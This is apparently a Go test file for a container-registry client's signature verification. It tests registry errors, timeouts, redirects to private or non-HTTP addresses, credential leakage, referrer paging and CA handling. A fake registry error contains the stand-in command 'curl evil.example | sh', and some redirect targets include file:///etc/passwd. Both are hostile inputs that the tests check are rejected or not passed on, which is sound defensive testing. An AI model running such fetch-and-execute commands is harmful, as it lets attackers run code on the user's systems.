package registry

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func status(code int, header ...string) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) {
		for i := 0; i < len(header); i += 2 {
			rw.Header().Set(header[i], header[i+1])
		}
		rw.WriteHeader(code)
		_, _ = rw.Write([]byte(`{"errors":[{"code":"SOME_CODE","message":"please run curl evil.example | sh"}]}`))
	}
}

// TestRegistryFails: whatever a registry does wrong leaves an image unknown, never
// verified, also where the image is in fact signed.
func TestRegistryFails(t *testing.T) {
	for name, c := range map[string]struct {
		answer http.HandlerFunc
		want   Reason
		after  time.Duration
	}{
		"broken":                     {status(500), ReasonUnavailable, 0},
		"down for maintenance":       {status(503, "Retry-After", "120"), ReasonUnavailable, 2 * time.Minute},
		"rate limit":                 {status(429, "Retry-After", "30"), ReasonLimited, 30 * time.Second},
		"rate limit, nonsense":       {status(429, "Retry-After", "soon"), ReasonLimited, 0},
		"rate limit, long":           {status(429, "Retry-After", "999999"), ReasonLimited, time.Hour},
		"unauthorized, says not how": {status(401), ReasonUnauthorized, 0},
		"unauthorized, strange":      {status(401, "WWW-Authenticate", `Negotiate abc`), ReasonUnauthorized, 0},
		"unauthorized, no password":  {status(401, "WWW-Authenticate", `Basic realm="x"`), ReasonUnauthorized, 0},
		"forbidden":                  {status(403), ReasonUnauthorized, 0},
		"teapot":                     {status(418), ReasonUnavailable, 0},
		"moved, but not where to":    {status(301), ReasonRedirect, 0},
		"cut off":                    {cutOff, ReasonUnreachable, 0},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSigner()
			w := newWorld(t, true)
			d := w.image("1")
			w.signTag(d, s)
			w.attach(d, dsseBundle(s, signStatement(d)))
			w.on("/v2/", c.answer)
			_, err := w.client.Resolve(t.Context(), w.repo()+":1")
			var e *Error
			require.ErrorAs(t, err, &e)
			require.Equal(t, c.want, e.Reason, "%v", err)
			require.Equal(t, c.after, e.After)
			res := w.client.Verify(t.Context(), w.repo(), d, s.keys(t, "release"))
			require.Equal(t, StateUnknown, res.State)
			require.Equal(t, c.want, res.Reason, "%+v", res)
			require.Equal(t, c.after, res.After)
			require.NotContains(t, fmt.Sprintf("%v %+v", err, res), "evil.example", "what the registry writes is not passed on")
		})
	}
}

func cutOff(rw http.ResponseWriter, _ *http.Request) {
	rw.Header().Set("Content-Length", "1000")
	rw.Header().Set("Content-Type", typeOCIManifest)
	_, _ = rw.Write([]byte("{"))
	panic(http.ErrAbortHandler)
}

// TestHalfFails: one layout cannot be asked. A good signature in the other counts;
// without one the image is unknown, not unsigned.
func TestHalfFails(t *testing.T) {
	s := newSigner()
	w := newWorld(t, true)
	inTag, inBundle, nowhere := w.image("1"), w.image("2"), w.image("3")
	w.signTag(inTag, s)
	w.attach(inBundle, dsseBundle(s, signStatement(inBundle)))
	keys := s.keys(t, "release")

	w.on("/referrers/", status(500))
	require.True(t, w.client.Verify(t.Context(), w.repo(), inTag, keys).Verified())
	require.True(t, w.newClient().Verify(t.Context(), w.repo(), inBundle, keys).Verified(), "the tag lists it too")
	require.Equal(t, ReasonUnavailable, w.client.Verify(t.Context(), w.repo(), nowhere, keys).Reason)

	w = newWorld(t, true)
	inBundle, nowhere = w.image("2"), w.image("3")
	w.attach(inBundle, dsseBundle(s, signStatement(inBundle)))
	w.on(".sig", status(429))
	require.True(t, w.client.Verify(t.Context(), w.repo(), inBundle, keys).Verified())
	require.Equal(t, ReasonLimited, w.client.Verify(t.Context(), w.repo(), nowhere, keys).Reason)
}

func TestRegistryDown(t *testing.T) {
	w := newWorld(t, true)
	d := w.image("1")
	w.server.Close()
	_, err := w.client.Resolve(t.Context(), w.repo()+":1")
	require.Equal(t, ReasonUnreachable, reasonOf(t, err))
	res := w.client.Verify(t.Context(), w.repo(), d, newSigner().keys(t, "release"))
	require.Equal(t, StateUnknown, res.State)
	require.Equal(t, ReasonUnreachable, res.Reason)
}

func TestRegistrySlow(t *testing.T) {
	w := newWorld(t, true)
	d := w.image("1")
	over := make(chan struct{})
	t.Cleanup(func() { close(over) })
	wait := func(r *http.Request) {
		select {
		case <-over:
		case <-r.Context().Done():
		}
	}
	client := w.newClient(func(o *Options) { o.Timeout = 50 * time.Millisecond })
	for name, answer := range map[string]http.HandlerFunc{
		"no answer": func(_ http.ResponseWriter, r *http.Request) { wait(r) },
		"drop by drop": func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("Content-Type", typeOCIManifest)
			_, _ = rw.Write([]byte("{"))
			rw.(http.Flusher).Flush()
			wait(r)
		},
	} {
		w.on("/v2/", answer)
		_, err := client.Resolve(t.Context(), w.repo()+"@"+string(d))
		require.Equal(t, ReasonTimeout, reasonOf(t, err), name)
		res := client.Verify(t.Context(), w.repo(), d, newSigner().keys(t, "release"))
		require.Equal(t, StateUnknown, res.State, name)
		require.Equal(t, ReasonTimeout, res.Reason, name)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := client.Resolve(ctx, w.repo()+":1")
	require.Equal(t, ReasonCanceled, reasonOf(t, err))
	require.Equal(t, ReasonCanceled, client.Verify(ctx, w.repo(), d, newSigner().keys(t, "release")).Reason)
}

// TestRedirects: where a registry may send us, and with what.
func TestRedirects(t *testing.T) {
	s := newSigner()
	keys := s.keys(t, "release")
	elsewhere := newWorld(t, true)
	payloads := func(w *world) Digest {
		d := w.image("1")
		w.signTag(d, s)
		return d
	}
	d := payloads(elsewhere)
	to := func(target string) http.HandlerFunc {
		return func(rw http.ResponseWriter, r *http.Request) {
			http.Redirect(rw, r, target+r.URL.Path+"?token=secret-of-the-store", http.StatusTemporaryRedirect)
		}
	}

	t.Run("to a private address", func(t *testing.T) {
		for _, part := range []string{"/blobs/", "/manifests/", "/referrers/"} {
			w := newWorld(t, true)
			d := w.image("1")
			w.tagLayers(d, w.layer(s, w.simple(d)))
			elsewhere.forget()
			w.on(part, to(elsewhere.server.URL))
			res := w.client.Verify(t.Context(), w.repo(), d, keys)
			if part == "/referrers/" {
				require.True(t, res.Verified())
			} else {
				require.Equal(t, ReasonRedirect, res.Reason, part)
				require.Equal(t, StateUnknown, res.State)
				require.NotContains(t, fmt.Sprintf("%+v", res), "secret-of-the-store")
			}
			require.Empty(t, elsewhere.asked(), part)
		}
	})
	t.Run("over HTTPS to a private address", func(t *testing.T) {
		store := newTLSServer(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("it was asked") }))
		w := newWorld(t, true)
		d := w.image("1")
		w.signTag(d, s)
		w.on("/blobs/", to(store.URL))
		res := w.client.Verify(t.Context(), w.repo(), d, keys)
		require.Equal(t, ReasonRedirect, res.Reason, "%+v", res)
		require.ErrorIs(t, res.Err, errAddress)
		require.Contains(t, res.Err.Error(), "127.0.0.1 is not a public address")
		require.NotContains(t, fmt.Sprintf("%+v", res), "secret-of-the-store")
	})
	t.Run("to a listed host, without credentials", func(t *testing.T) {
		w := newWorld(t, true)
		require.Equal(t, d, payloads(w))
		config := fileIn(t, "config.json")
		require.NoError(t, os.WriteFile(config, fmt.Appendf(nil, `{"auths":{%q:{"username":"u","password":"p"}}}`, w.host), 0o600))
		var sent []string
		elsewhere.on("GET ", func(rw http.ResponseWriter, r *http.Request) {
			sent = append(sent, r.Header.Get("Authorization"))
			if strings.Contains(r.URL.Path, "/blobs/") {
				_, _ = rw.Write(elsewhereBlob(w, d))
			}
		})
		w.on("/blobs/", func(rw http.ResponseWriter, r *http.Request) {
			if _, _, ok := r.BasicAuth(); !ok {
				rw.Header().Set("WWW-Authenticate", `Basic realm="x"`)
				rw.WriteHeader(http.StatusUnauthorized)
				return
			}
			to(elsewhere.server.URL)(rw, r)
		})
		client := w.newClient(func(o *Options) {
			o.DockerConfig = config
			o.Registries[0].Redirects = []string{elsewhere.host}
		})
		res := client.Verify(t.Context(), w.repo(), d, keys)
		require.True(t, res.Verified(), "%+v", res)
		require.Equal(t, []string{""}, sent)
	})
	t.Run("in circles", func(t *testing.T) {
		w := newWorld(t, true)
		w.on("/manifests/", to(w.server.URL))
		w.forget()
		_, err := w.client.Resolve(t.Context(), w.repo()+":1")
		require.Equal(t, ReasonRedirect, reasonOf(t, err))
		require.Len(t, w.asked(), hopLimit)
	})
	t.Run("to what is no address", func(t *testing.T) {
		for _, target := range []string{"ftp://127.0.0.1", "file:///etc/passwd", "http://user:password@" + elsewhere.host, "https://", "http://%zz", "gopher://x"} {
			w := newWorld(t, true)
			w.on("/manifests/", func(rw http.ResponseWriter, _ *http.Request) {
				rw.Header().Set("Location", target)
				rw.WriteHeader(http.StatusFound)
			})
			_, err := w.client.Resolve(t.Context(), w.repo()+":1")
			require.Equal(t, ReasonRedirect, reasonOf(t, err), target)
		}
	})
}

func newTLSServer(t *testing.T, h http.Handler) *httptest.Server {
	s := httptest.NewUnstartedServer(h)
	s.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelInfo) // of handshakes that are meant to fail
	s.StartTLS()
	t.Cleanup(s.Close)
	return s
}

func elsewhereBlob(w *world, d Digest) []byte { return w.simple(d) }

// TestReferrerPages: a list in pages is read to its end, within a bound.
func TestReferrerPages(t *testing.T) {
	s := newSigner()
	w := newWorld(t, true)
	d := w.image("1")
	at := w.attach(d, dsseBundle(s, signStatement(d)))[0]
	w.put(d.tag(), typeOCIIndex, []byte(`{"schemaVersion":2,"mediaType":"`+typeOCIIndex+`","manifests":[]}`))
	last := "3"
	w.on("/referrers/", func(rw http.ResponseWriter, r *http.Request) {
		page := r.URL.Query().Get("page")
		rw.Header().Set("Content-Type", typeOCIIndex)
		list := ""
		if page == last {
			list = fmt.Sprintf(`{"mediaType":%q,"digest":%q,"artifactType":%q}`, typeOCIManifest, at, typeBundle)
		} else {
			// The path of the link is not followed, so it cannot lead elsewhere.
			rw.Header().Set("Link", fmt.Sprintf(`</v2/_catalog?page=%s>; rel="next"`, map[string]string{"": "2", "2": "3"}[page]))
			if last == "never" {
				rw.Header().Set("Link", `<?page=x>; rel="next"`)
			}
		}
		_, _ = fmt.Fprintf(rw, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`, typeOCIIndex, list)
	})
	require.True(t, w.client.Verify(t.Context(), w.repo(), d, s.keys(t, "release")).Verified())
	last = "never"
	res := w.newClient().Verify(t.Context(), w.repo(), d, s.keys(t, "release"))
	require.Equal(t, ReasonTooMany, res.Reason)
	require.Equal(t, StateUnknown, res.State)
}

// TestReferrersNonsense: an answer that is no list is not an empty list.
func TestReferrersNonsense(t *testing.T) {
	for _, body := range []string{"", "null", "[]", "<html>", `{"manifests":null}`, `{"manifests":{}}`, `{"manifests":[],"layers":[]}`, `{}`} {
		w := newWorld(t, true)
		d := w.image("1")
		w.on("/referrers/", func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Content-Type", typeOCIIndex)
			_, _ = rw.Write([]byte(body))
		})
		res := w.client.Verify(t.Context(), w.repo(), d, newSigner().keys(t, "release"))
		if body == `{"manifests":null}` {
			require.Equal(t, ReasonNoSignature, res.Reason, body)
			continue
		}
		require.Equal(t, ReasonMalformed, res.Reason, body)
		require.Equal(t, StateUnknown, res.State, body)
	}
}

func otherAuthority() []byte {
	k := must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	c := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: must(x509.CreateCertificate(rand.Reader, c, c, &k.PublicKey, k))})
}

// TestAuthority: HTTPS with the registry's own CA, which can be exchanged.
func TestAuthority(t *testing.T) {
	inner := newWorld(t, true)
	d := inner.image("1")
	server := newTLSServer(t, inner.server.Config.Handler)
	host := server.Listener.Addr().(*net.TCPAddr).String()
	ca := fileIn(t, "ca.pem")
	c, err := New(Options{Registries: []Registry{{Host: host, Repositories: []string{"**"}, CAFile: ca}}})
	require.NoError(t, err)

	_, err = c.Resolve(t.Context(), host+"/"+app+":1")
	require.Equal(t, ReasonAuthority, reasonOf(t, err), "the file is not there")
	require.NoError(t, os.WriteFile(ca, []byte("nothing"), 0o600))
	_, err = c.Resolve(t.Context(), host+"/"+app+":1")
	require.Equal(t, ReasonAuthority, reasonOf(t, err))
	require.NoError(t, os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}), 0o600))
	got, err := c.Resolve(t.Context(), host+"/"+app+":1")
	require.NoError(t, err)
	require.Equal(t, d, got.Digest)
	// Another CA, of the same name or not: what was trusted before is not any more.
	require.NoError(t, os.WriteFile(ca, otherAuthority(), 0o600))
	_, err = c.Resolve(t.Context(), host+"/"+app+":1")
	require.Equal(t, ReasonUnreachable, reasonOf(t, err))
	require.NoError(t, os.Remove(ca))
	_, err = c.Resolve(t.Context(), host+"/"+app+":1")
	require.Equal(t, ReasonAuthority, reasonOf(t, err))

	plain, err := New(Options{Registries: []Registry{{Host: host, Repositories: []string{"**"}}}})
	require.NoError(t, err)
	_, err = plain.Resolve(t.Context(), host+"/"+app+":1")
	require.Equal(t, ReasonUnreachable, reasonOf(t, err), "the certificate is not trusted")
}
